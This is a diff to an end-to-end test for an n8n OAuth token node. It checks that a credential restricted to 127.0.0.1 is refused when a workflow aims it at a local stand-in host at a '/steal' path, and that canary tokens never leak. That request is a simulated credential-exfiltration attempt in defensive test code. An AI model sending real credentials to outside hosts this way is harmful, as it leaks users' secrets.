@@ -8,6 +8,10 @@
  *   request succeeds and the rotated refresh token is persisted.
  * - Canary secrets never reach execution data, the database, the log or n8n's console output.
  */
+import { createServer } from 'node:http';
+import type { Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
 import { httpRequest } from '../servers/httpClient';
 import type { MintedGrant, OidcServerHandle } from '../servers/oidcServer';
 import { startOidcServer } from '../servers/oidcServer';
@@ -53,6 +57,14 @@ const CONNECT_CASES: ConnectCase[] = [
 ];
 
 const MANUAL = { credentialId: 'e2eManualCred001', workflowId: 'e2eManualReq0001', name: 'Canary manual refresh token' };
+
+/** A built-in Google Sheets credential its owner restricted to one host, used against another one. */
+const RESTRICTED = { credentialId: 'e2eRestricted001', workflowId: 'e2eRestrictReq01', name: 'Canary restricted Google Sheets' };
+
+/** Outside the restricted credential's list (another loopback address): records whatever reaches it. */
+const outsideRequests: Array<{ url: string; headers: Record<string, unknown>; body: string }> = [];
+let outside: Server;
+let outsideUrl = '';
 
 let userFolder: UserFolder;
 let oidc: OidcServerHandle;
@@ -118,6 +130,22 @@ beforeAll(async () => {
 	// Stored as a user would paste it: the access token, with no known expiry.
 	credentials.push(manualCredential(oidc, manualGrant, { id: MANUAL.credentialId, name: MANUAL.name }, { accessToken: manualGrant.accessToken }));
 
+	outside = createServer((request, response) => {
+		const chunks: Buffer[] = [];
+		request.on('data', (chunk: Buffer) => chunks.push(chunk));
+		request.on('end', () => {
+			outsideRequests.push({ url: request.url ?? '', headers: request.headers, body: Buffer.concat(chunks).toString('utf8') });
+			response.end('{}');
+		});
+	});
+	await new Promise<void>((resolve) => outside.listen(0, '127.0.0.2', resolve));
+	outsideUrl = `http://127.0.0.2:${(outside.address() as AddressInfo).port}`;
+	const restrictedGrant = await oidc.mintGrant({ clientId: clientFor(oidc, 'googleSheetsOAuth2Api') });
+	knownTokens['restricted access token'] = restrictedGrant.accessToken;
+	knownTokens['restricted refresh token'] = restrictedGrant.refreshToken;
+	const restricted = connectCredential(oidc, restrictedGrant, { id: RESTRICTED.credentialId, name: RESTRICTED.name, type: 'googleSheetsOAuth2Api' });
+	credentials.push({ ...restricted, data: { ...restricted.data, allowedHttpRequestDomains: 'domains', allowedDomains: '127.0.0.1' } });
+
 	userFolder = createUserFolder();
 	started = Date.now();
 	await installPackageTarball(userFolder, tarball);
@@ -140,6 +168,15 @@ beforeAll(async () => {
 						credentials: { tokenGuardRefreshTokenApi: { id: MANUAL.credentialId, name: MANUAL.name } },
 					},
 				]),
+				manualWorkflow(RESTRICTED.workflowId, 'Request With Auto-Refresh: outside the credential\'s allowed domains', [
+					{
+						name: 'Call Outside',
+						type: 'n8n-nodes-token-guard.forceRefresh',
+						typeVersion: 1,
+						parameters: { credentialType: 'googleSheetsOAuth2Api', operation: 'request', method: 'GET', url: `${outsideUrl}/steal` },
+						credentials: { googleSheetsOAuth2Api: { id: RESTRICTED.credentialId, name: RESTRICTED.name } },
+					},
+				]),
 			])
 		).stdout,
 	);
@@ -147,6 +184,7 @@ beforeAll(async () => {
 
 afterAll(async () => {
 	await oidc?.stop();
+	await new Promise<void>((resolve) => (outside ? outside.close(() => resolve()) : resolve()));
 	removeUserFolder(userFolder);
 	await removePackedRepo();
 	process.stderr.write(`[e2e-timing] refresh ${JSON.stringify(timings)}\n`);
@@ -228,12 +266,24 @@ describe('Force Refresh in real n8n', () => {
 		TEST_TIMEOUT_MS,
 	);
 
+	it(
+		"a credential restricted to 127.0.0.1 is refused for a URL on 127.0.0.2 with n8n's wording, and nothing reaches that host",
+		withN8nLog(() => userFolder, async () => {
+			const outcome = await executeWorkflow(userFolder, RESTRICTED.workflowId);
+			consoleOutput.push(outcome.result.stdout, outcome.result.stderr);
+			expect(outcome.status).toBe('error');
+			expect(outcome.errorMessage).toMatch(/Domain not allowed: This credential is restricted from accessing 127\.0\.0\.2/);
+			expect(outsideRequests).toEqual([]);
+		}),
+		TEST_TIMEOUT_MS,
+	);
+
 	it('canary secrets (client secret, every refresh and access token) appear nowhere n8n wrote', withN8nLog(() => userFolder, () => {
 		const texts: Record<string, string> = { ...n8nWrittenTexts(userFolder), 'n8n console output': consoleOutput.join('\n') };
 		// The search must be able to find something: the runs above are in there, by credential name.
 		expect(texts['execution data']).toContain('Canary Token Guard OAuth2 API (ours)');
 		expect(texts['n8n log file']).toContain('Token Guard refresh.succeeded');
-		expect(Object.keys(knownTokens).length).toBeGreaterThanOrEqual(12);
+		expect(Object.keys(knownTokens).length).toBeGreaterThanOrEqual(14);
 
 		expect(findLeaks({ 'client secret': CLIENT_SECRET, ...knownTokens }, texts)).toEqual([]);
 	}));
